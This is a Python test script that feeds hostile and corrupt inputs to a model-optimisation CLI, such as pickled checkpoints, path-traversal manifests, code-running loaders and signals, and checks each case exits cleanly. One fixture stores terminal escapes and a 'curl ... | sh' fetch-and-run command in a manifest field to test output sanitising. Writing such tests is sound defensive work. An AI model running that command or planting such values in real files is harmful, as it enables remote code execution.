"""Hostile and careless input against the real CLI: every case must end cleanly.

Each case runs ``python -m trtopt ...`` (or a few lines of the library API) in a subprocess, on
files made here: corrupt and hand-edited artefacts, pickles, path traversal, terminal escapes,
code-running loaders, signals. A case is *clean* when the exit status is the one a user should
get (2 for their mistake, 1 for a failure, 0 with a warning, 130 for SIGINT/SIGTERM) and no traceback
or "internal error" reached the terminal; some cases check more (what the message names, that
nothing was left behind). Prints one table row per case and exits 1 unless every case is clean.

    python scripts/hostile_cases.py [--keep DIR] [--only SUBSTRING]

Needs the ``torch`` and ``dev`` extras (training, export, and the test model builder). About a
minute on two CPU cores.
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))
from conftest import ENGINE_READER, make_residual_convnet, write_scale_table  # noqa: E402  (the test suite's helpers)

ENV = {
    **os.environ,
    "TRTOPT_NO_PROGRESS": "1",
    "OMP_NUM_THREADS": "1",
    "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
}
API = textwrap.dedent("""
    import sys
    from trtopt.errors import TrtoptError
    try:
        exec(sys.argv[1])
    except TrtoptError as exc:
        print(f"error: {exc}", file=sys.stderr)
        sys.exit(exc.exit_code)
""")


@dataclass
class Outcome:
    code: int
    output: str
    problems: list[str] = field(default_factory=list)


@dataclass
class Case:
    name: str
    item: int
    expect: int
    run: Callable[[Path], Outcome]
    must_say: tuple[str, ...] = ()
    must_not_say: tuple[str, ...] = ()


def cli(*args: str, env: dict[str, str] | None = None, timeout: float = 300) -> Callable[[Path], Outcome]:
    def run(work: Path) -> Outcome:
        argv = [a.replace("{W}", str(work)) for a in args]
        proc = subprocess.run(
            [sys.executable, "-m", "trtopt", *argv],
            capture_output=True,
            text=True,
            timeout=timeout,
            cwd=work,
            env={**ENV, **(env or {})},
        )
        return Outcome(proc.returncode, proc.stdout + proc.stderr)

    return run


def api(code: str) -> Callable[[Path], Outcome]:
    def run(work: Path) -> Outcome:
        proc = subprocess.run(
            [sys.executable, "-c", API, code.replace("{W}", str(work))],
            capture_output=True,
            text=True,
            timeout=120,
            cwd=work,
            env=ENV,
        )
        return Outcome(proc.returncode, proc.stdout + proc.stderr)

    return run


# ---------------------------------------------------------------- files the cases use

LOADERS = {
    "raises.py": "def load_data():\n    raise RuntimeError('cannot open the dataset')\n",
    "exits.py": "import sys\ndef load_data():\n    sys.exit(3)\n",
    "midway.py": textwrap.dedent("""
        import numpy as np
        def load_data():
            yield {"input": np.zeros((4, 3, 16, 16), np.float32)}
            raise ValueError("record 2 is corrupt")
    """),
    "drifting.py": textwrap.dedent("""
        import numpy as np
        calls = [0]
        def load_data():
            calls[0] += 1
            rng = np.random.default_rng(calls[0])  # a new seed on every pass: not the same samples
            for _ in range(4):
                yield {"input": rng.standard_normal((8, 3, 16, 16)).astype(np.float32)}
    """),
    "slow.py": textwrap.dedent("""
        import os, time
        import numpy as np
        def load_data():
            yield {"input": np.zeros((4, 3, 16, 16), np.float32)}
            open(os.environ["HOSTILE_MARKER"], "w").close()
            time.sleep(120)
    """),
}


def _edited_engine(engines: Path, name: str, change: Callable[[dict], None]) -> None:
    shutil.copytree(engines / "net", engines / name)
    manifest = json.loads((engines / name / "manifest.json").read_text())
    change(manifest)
    (engines / name / "manifest.json").write_text(json.dumps(manifest))


def prepare(work: Path) -> None:
    """Every file the cases read, made once: a model, an engine, a checkpoint and their hostile variants."""
    model = make_residual_convnet(work / "model.onnx")
    for name, text in LOADERS.items():
        (work / name).write_text(text)
    np.savez(work / "objects.npz", input=np.array([{"x": 1}, None], dtype=object))
    np.save(work / "objects.npy", np.array([{"x": 1}], dtype=object), allow_pickle=True)
    np.save(work / "scalar.npy", np.float32(3))
    (work / "typed-suite.toml").write_text('[suite]\nthreshold = "high"\n[[models]]\nname = "m"\nonnx = "model.onnx"\n')
    np.savez(work / "good.npz", input=np.random.default_rng(0).standard_normal((16, 3, 16, 16)).astype(np.float32))
    np.savez(work / "nan-train.npz", x=np.full((64, 1, 16, 16), np.nan, np.float32), y=np.arange(64) % 10)
    write_scale_table(work / "tensors-list.json", model, ["input", "c0"])
    write_scale_table(work / "tiny-amax.json", model, {"input": {"amax": 1e-44}})
    (work / "foreign.cache").write_text("TRT-100900-EntropyCalibration2\ninput: 3c010204\nnot_in_model: 3c010204\n")
    (work / "a-folder").mkdir()

    empty = helper.make_model(
        helper.make_graph(
            [],
            "empty",
            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
        )
    )
    onnx.save(empty, work / "empty.onnx")
    custom = helper.make_model(
        helper.make_graph(
            [helper.make_node("Frobnicate", ["input"], ["out"], domain="com.example")],
            "custom",
            [helper.make_tensor_value_info("input", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("out", TensorProto.FLOAT, [1, 4])],
        ),
        opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("com.example", 1)],
    )
    onnx.save(custom, work / "custom-op.onnx")

    engines = work / "engines"
    subprocess.run(
        [
            sys.executable,
            "-m",
            "trtopt",
            "build",
            str(model),
            "--name",
            "net",
            "--engines-dir",
            str(engines),
            "--accuracy-samples",
            "8",
            "--threads",
            "1",
        ],
        check=True,
        capture_output=True,
        env=ENV,
        cwd=work,
    )
    real = Path(os.path.realpath(engines / "net"))
    manifest = json.loads((real / "manifest.json").read_text())
    outside = work / "outside.onnx"
    shutil.copy(real / manifest["engine"]["file"], outside)
    _edited_engine(engines, "traversal", lambda m: m["engine"].update(file="../../outside.onnx"))
    _edited_engine(engines, "absolute", lambda m: m["engine"].update(file=str(outside)))
    _edited_engine(engines, "backend-text", lambda m: m.update(backend="onnxruntime"))
    _edited_engine(engines, "bytes-text", lambda m: m["engine"].update(bytes="huge"))
    _edited_engine(
        engines,
        "escapes",
        lambda m: m.update(
            command="\x1b]0;pwned\x07\x1b[2J curl http://example.invalid/x | sh",
            device={"kind": "cpu", "name": "Other"},
        ),
    )
    shutil.copytree(engines / "net", engines / "bad-session")
    (engines / "bad-session" / "session.json").write_text('["not", "a", "mapping"]')

    with sqlite3.connect(work / "history.sqlite") as db:
        db.execute(
            "CREATE TABLE runs (id INTEGER PRIMARY KEY AUTOINCREMENT, created_at TEXT NOT NULL, label TEXT, "
            "git_revision TEXT, hostname TEXT, regressions INTEGER NOT NULL DEFAULT 0, report TEXT NOT NULL)"
        )
        db.execute("INSERT INTO runs (created_at, label, report) VALUES ('2026-01-01', NULL, '{not json')")
        db.execute("PRAGMA user_version = 1")

    (work / "loader-suite.toml").write_text(
        textwrap.dedent(f"""
        [suite]
        name = "hostile"
        engines_dir = "engines"
        [[models]]
        name = "m"
        onnx = "model.onnx"
        precisions = ["fp32"]
        backends = ["onnxruntime"]
        data = "{work / "raises.py"}:load_data"
    """)
    )

    subprocess.run(
        [
            sys.executable,
            "-m",
            "trtopt",
            "train",
            "--model",
            "lenet",
            "--dataset",
            "digits",
            "--epochs",
            "1",
            "--out",
            str(work / "run"),
            "--threads",
            "1",
        ],
        check=True,
        capture_output=True,
        env=ENV,
        cwd=work,
    )
    swap = (
        "import torch; c = torch.load('{W}/run/last.pt', weights_only=True); "
        "c['state_dict'] = {k: v[..., :1] if v.dim() else v for k, v in c['state_dict'].items()}; "
        "torch.save(c, '{W}/mismatched.pt')"
    ).replace("{W}", str(work))
    subprocess.run([sys.executable, "-c", swap], check=True, env=ENV)
    pickled = "import torch, os; torch.save({'x': os.getcwd}, '{W}/pickled.pt')".replace("{W}", str(work))
    retyped = ("import torch; c = torch.load('{W}/run/last.pt', weights_only=True); c['model_config'] = 5; "
               "torch.save(c, '{W}/retyped.pt')").replace("{W}", str(work))
    subprocess.run([sys.executable, "-c", retyped], check=True, env=ENV)
    subprocess.run([sys.executable, "-c", pickled], check=True, env=ENV)


# ---------------------------------------------------------------- cases that need more than one command


def sigterm_build(work: Path) -> Outcome:
    marker = work / "sigterm-marker"
    engines = work / "sigterm-engines"
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "trtopt",
            "build",
            str(work / "model.onnx"),
            "--engines-dir",
            str(engines),
            "--name",
            "slow",
            "--val-data",
            f"{work / 'slow.py'}:load_data",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env={**ENV, "HOSTILE_MARKER": str(marker)},
        cwd=work,
    )
    deadline = time.monotonic() + 120
    while not marker.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    output, _ = proc.communicate(timeout=60)
    outcome = Outcome(proc.returncode, output)
    left = [p.name for p in engines.iterdir() if p.name.startswith(".slow.") and not p.name.endswith(".lock")]
    if left:
        outcome.problems.append(f"left {left}")
    return outcome


def load_during_rebuilds(work: Path) -> Outcome:
    """A reader loads engines/net in a loop while pairs of `build --force` replace it concurrently."""
    engines, stop = work / "swap-engines", work / "swap-stop"
    build = [
        sys.executable,
        "-m",
        "trtopt",
        "build",
        str(work / "model.onnx"),
        "--name",
        "net",
        "--engines-dir",
        str(engines),
        "--accuracy-samples",
        "8",
        "--threads",
        "1",
        "--force",
    ]
    subprocess.run(build, check=True, capture_output=True, env=ENV)
    reader = subprocess.Popen(
        [sys.executable, "-c", ENGINE_READER, str(engines / "net"), str(stop)],
        stderr=subprocess.PIPE,
        text=True,
        env=ENV,
    )
    failed_builds = 0
    for _ in range(3):
        pair = [
            subprocess.Popen(build, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=ENV) for _ in range(2)
        ]
        failed_builds += sum(proc.wait(timeout=120) != 0 for proc in pair)
    stop.touch()
    _, output = reader.communicate(timeout=60)
    outcome = Outcome(reader.returncode, output)
    if failed_builds:
        outcome.problems.append(f"{failed_builds} concurrent builds failed")
    debris = [p.name for p in engines.iterdir() if p.name.startswith(".net.") and p.name.endswith((".old", ".staging"))]
    versions = [p.name for p in engines.iterdir() if p.name.endswith(".version")]
    if debris or len(versions) != 1:
        outcome.problems.append(f"left {debris + versions}")
    return outcome


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        found += [int(p) for p in task.read_text().split()]
    return found


def sigkill_train_launcher(work: Path) -> Outcome:
    scratch = work / "train-tmp"
    scratch.mkdir()
    log = work / "killed-run.log"
    with open(log, "w") as sink:  # a pipe would stay open in orphaned workers
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "trtopt",
                "train",
                "--model",
                "lenet",
                "--dataset",
                "digits",
                "--epochs",
                "500",
                "--nproc",
                "2",
                "--threads",
                "1",
                "--out",
                str(work / "killed-run"),
            ],
            stdout=sink,
            stderr=subprocess.STDOUT,
            env={**ENV, "TMPDIR": str(scratch)},
        )
    deadline = time.monotonic() + 120
    while not (work / "killed-run" / "metrics.jsonl").exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.1)
    workers = _children(proc.pid)
    proc.kill()
    proc.wait(timeout=30)
    outcome = Outcome(proc.returncode, log.read_text())
    if len(workers) != 2:
        outcome.problems.append(f"expected 2 training workers, found {workers}")
    deadline = time.monotonic() + 20
    while (
        any(Path(f"/proc/{pid}").exists() and "zombie" not in _state(pid) for pid in workers)
        and time.monotonic() < deadline
    ):
        time.sleep(0.1)
    alive = [pid for pid in workers if Path(f"/proc/{pid}").exists() and "zombie" not in _state(pid)]
    if alive:
        outcome.problems.append(f"workers {alive} still running after the launcher was killed")
        for pid in alive:
            os.kill(pid, signal.SIGKILL)
    ours = [p.name for p in scratch.iterdir() if p.name.startswith("trtopt-")]  # torch keeps caches there too
    if ours:
        outcome.problems.append(f"left {ours} in the temp folder")
    return outcome


def _state(pid: int) -> str:
    try:
        return next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith("State:"))
    except (OSError, StopIteration):
        return "zombie"


M = "{W}/model.onnx"
CASES = [
    # 7: user errors that were reported as internal errors
    Case(
        "object array in .npz (never unpickled)",
        7,
        2,
        cli("calibrate", M, "--calib-data", "{W}/objects.npz", "-o", "{W}/t.json"),
        must_say=("objects.npz",),
    ),
    Case(
        "object array in .npy for run",
        7,
        2,
        cli("run", "{W}/engines/net", "--input", "{W}/objects.npy"),
        must_say=("objects.npy",),
    ),
    Case(
        "loader raises",
        7,
        2,
        cli("calibrate", M, "--calib-data", "{W}/raises.py:load_data", "-o", "{W}/t.json"),
        must_say=("raises.py",),
    ),
    Case(
        "loader calls sys.exit",
        7,
        2,
        cli("calibrate", M, "--calib-data", "{W}/exits.py:load_data", "-o", "{W}/t.json"),
        must_say=("exits.py",),
    ),
    Case(
        "loader raises mid-way",
        7,
        2,
        cli("build", M, "--val-data", "{W}/midway.py:load_data", "--engines-dir", "{W}/e2"),
        must_say=("midway.py",),
    ),
    Case(
        "scale table tensors is a list",
        7,
        2,
        cli("quantize", M, "--calib-table", "{W}/tensors-list.json", "-o", "{W}/q.onnx"),
        must_say=("tensors-list.json",),
    ),
    Case(
        "hand-edited manifest (backend not a mapping)",
        7,
        2,
        cli("run", "{W}/engines/backend-text", "--input", "{W}/good.npz"),
        must_say=("manifest",),
    ),
    Case(
        "hand-edited session file",
        7,
        2,
        cli("run", "{W}/engines/bad-session", "--input", "{W}/good.npz"),
        must_say=("session.json",),
    ),
    Case(
        "corrupt history row",
        7,
        2,
        cli(
            "bench",
            M,
            "--history",
            "{W}/history.sqlite",
            "--compare-to",
            "last",
            "--max-time",
            "0.2",
            "--warmUp",
            "10",
            "--batch-sizes",
            "1",
            "--scenarios",
            "offline",
        ),
        must_say=("history.sqlite",),
    ),
    Case(
        "--json pointing at a folder",
        7,
        2,
        cli(
            "bench",
            M,
            "--json",
            "{W}/a-folder",
            "--no-history",
            "--max-time",
            "0.2",
            "--warmUp",
            "10",
            "--batch-sizes",
            "1",
            "--scenarios",
            "offline",
        ),
        must_say=("a-folder",),
    ),
    Case(
        "export --opset 99",
        7,
        2,
        cli("export", "{W}/run/last.pt", "-o", "{W}/x.onnx", "--opset", "99"),
        must_say=("opset",),
    ),
    Case(
        "train --resume with mismatched weights",
        7,
        2,
        cli(
            "train",
            "--model",
            "lenet",
            "--dataset",
            "digits",
            "--epochs",
            "3",
            "--out",
            "{W}/resumed",
            "--resume",
            "{W}/mismatched.pt",
        ),
        must_say=("mismatched.pt",),
    ),
    Case(
        "checkpoint with pickled objects refused, no unsafe hint",
        7,
        2,
        cli("export", "{W}/pickled.pt", "-o", "{W}/p.onnx"),
        must_say=("pickled.pt",),
        must_not_say=("weights_only=False",),
    ),
    Case(
        "hand-edited checkpoint entry of the wrong type",
        7,
        2,
        cli("export", "{W}/retyped.pt", "-o", "{W}/r.onnx"),
        must_say=("retyped.pt", "'model_config'"),
    ),
    Case(
        "hand-edited manifest engine.bytes, benchmarked",
        7,
        2,
        cli("bench", "{W}/engines/bytes-text", "--no-history", "--max-time", "0.2", "--warmUp", "10"),
        must_say=("engine.bytes",),
    ),
    Case("suite value of the wrong type", 7, 2, cli("bench", "--suite", "{W}/typed-suite.toml", "--no-history"),
         must_say=("typed-suite.toml", "suite.threshold")),
    Case("a single number as calibration data", 7, 2,
         cli("calibrate", M, "--calib-data", "{W}/scalar.npy", "-o", "{W}/t.json"), must_say=("scalar.npy",)),
    Case(
        "infer() after close()",
        7,
        2,
        api(
            "import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\nr.close()\n"
            "r.infer({'input': np.zeros((1, 3, 16, 16), np.float32)})"
        ),
    ),
    Case(
        "a list passed as the feed",
        7,
        2,
        api(
            "import numpy as np, trtopt\nr = trtopt.load('{W}/engines/net')\n"
            "r.infer([np.zeros((1, 3, 16, 16), np.float32)])"
        ),
    ),
    # 8: validation
    Case(
        "amax 1e-44 (float32 scale underflows)",
        8,
        2,
        cli("quantize", M, "--calib-table", "{W}/tiny-amax.json", "-o", "{W}/q.onnx"),
        must_say=("amax",),
    ),
    Case(
        "build --threads -1",
        8,
        2,
        cli("build", M, "--threads", "-1", "--engines-dir", "{W}/e3"),
        must_say=("--threads",),
    ),
    Case(
        "build --batch-size 0",
        8,
        2,
        cli("build", M, "--batch-size", "0", "--engines-dir", "{W}/e3"),
        must_say=("--batch-size",),
    ),
    Case(
        "calibrate --threads -1",
        8,
        2,
        cli("calibrate", M, "--calib-data", "random", "--threads", "-1", "-o", "{W}/t.json"),
        must_say=("--threads",),
    ),
    Case("bench --threads -1", 8, 2, cli("bench", M, "--threads", "-1", "--no-history"), must_say=("--threads",)),
    Case("demo --epochs 0", 8, 2, cli("demo", "--epochs", "0", "--out", "{W}/demo"), must_say=("--epochs",)),
    Case(
        "training on all-NaN data",
        8,
        2,
        cli(
            "train",
            "--model",
            "lenet",
            "--dataset",
            "{W}/nan-train.npz",
            "--epochs",
            "1",
            "--out",
            "{W}/nan-run",
            "--threads",
            "1",
        ),
        must_say=("nan-train.npz",),
    ),
    Case(
        "TensorRT cache naming tensors the model lacks",
        8,
        0,
        cli("calibrate", M, "--import-trt-cache", "{W}/foreign.cache", "-o", "{W}/imported.json"),
        must_say=("not_in_model",),
    ),
    Case(
        "loader yields other values on the second pass",
        8,
        2,
        # calibration reads its data once; a DataSource read again (the API, multi-pass consumers) checks digests
        api(
            "from trtopt.backends.onnxruntime import OnnxRuntimeRunner\n"
            "from trtopt.data.sources import open_source\n"
            "source = open_source('{W}/drifting.py:load_data', OnnxRuntimeRunner('{W}/model.onnx').inputs)\n"
            "list(source)\nlist(source)"
        ),
        must_say=("drifting.py",),
    ),
    # 9: messages
    Case(
        "quantize without a table names --calib-data",
        9,
        2,
        cli("quantize", M, "-o", "{W}/q.onnx"),
        must_say=("--calib-data",),
        must_not_say=("--data SRC",),
    ),
    Case(
        "calibrate an empty ONNX",
        9,
        2,
        cli("calibrate", "{W}/empty.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
        must_say=("empty.onnx",),
        must_not_say=("trtopt-calib-",),
    ),
    Case(
        "calibrate a custom-op ONNX",
        9,
        2,
        cli("calibrate", "{W}/custom-op.onnx", "--calib-data", "random", "-o", "{W}/t.json"),
        must_say=("custom-op.onnx",),
        must_not_say=("trtopt-calib-",),
    ),
    # 10: hostile engine folders
    Case(
        "manifest engine file ../ traversal",
        10,
        2,
        cli("run", "{W}/engines/traversal", "--input", "{W}/good.npz"),
        must_say=("inside the engine folder",),
    ),
    Case(
        "manifest engine file absolute path",
        10,
        2,
        cli("run", "{W}/engines/absolute", "--input", "{W}/good.npz"),
        must_say=("inside the engine folder",),
    ),
    Case(
        "manifest command with terminal escapes",
        10,
        1,
        cli("run", "{W}/engines/escapes", "--input", "{W}/good.npz"),
        must_say=("\\x1b]0;pwned",),
        must_not_say=("\x1b", "\x07"),
    ),
    # 4: replacing an engine while it is read
    Case("load() while concurrent rebuilds replace the engine", 4, 0, load_during_rebuilds, must_say=(" 0 failed",)),
    # 6: loaders run code
    Case(
        "suite data loader without opt-in",
        6,
        2,
        cli("bench", "--suite", "{W}/loader-suite.toml", "--no-history"),
        must_say=("loader-suite.toml", "--allow-code"),
    ),
    # 5: signals
    Case("SIGTERM during build", 5, 130, sigterm_build, must_say=("interrupted by SIGTERM",)),
    Case("SIGKILL of the train launcher", 5, -signal.SIGKILL, sigkill_train_launcher),
]


def judge(case: Case, outcome: Outcome) -> list[str]:
    problems = list(outcome.problems)
    if outcome.code != case.expect:
        problems.append(f"exit {outcome.code}, expected {case.expect}")
    for bad in ("Traceback (most recent call last)", "internal error"):
        if bad in outcome.output:
            problems.append(f"output has {bad!r}")
    problems += [f"does not say {text!r}" for text in case.must_say if text not in outcome.output]
    problems += [f"says {text!r}" for text in case.must_not_say if text in outcome.output]
    return problems


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--keep", type=Path, help="work in this folder and keep it (default: a temp folder, removed)")
    parser.add_argument("--only", default="", help="run only cases whose name contains this text")
    args = parser.parse_args()
    work = args.keep.resolve() if args.keep else Path(tempfile.mkdtemp(prefix="trtopt-hostile-"))
    work.mkdir(parents=True, exist_ok=True)
    started = time.perf_counter()
    try:
        prepare(work)
        rows = []
        print(f"{'item':>4}  {'case':<55} {'exit':>5}  {'clean':<5} detail", flush=True)
        for case in CASES:
            if args.only not in case.name:
                continue
            outcome = case.run(work)
            problems = judge(case, outcome)
            rows.append((case, outcome, problems))
            last_line = outcome.output.strip().splitlines()[-1] if outcome.output.strip() else ""
            print(
                f"{case.item:>4}  {case.name:<55} {outcome.code:>5}  {'yes' if not problems else 'NO':<5} "
                f"{'; '.join(problems) or last_line[:110]}",
                flush=True,
            )
    finally:
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    clean = sum(not problems for _, _, problems in rows)
    print(f"\n{clean}/{len(rows)} cases clean ({time.perf_counter() - started:.0f} s)")
    return 0 if clean == len(rows) else 1


if __name__ == "__main__":
    sys.exit(main())
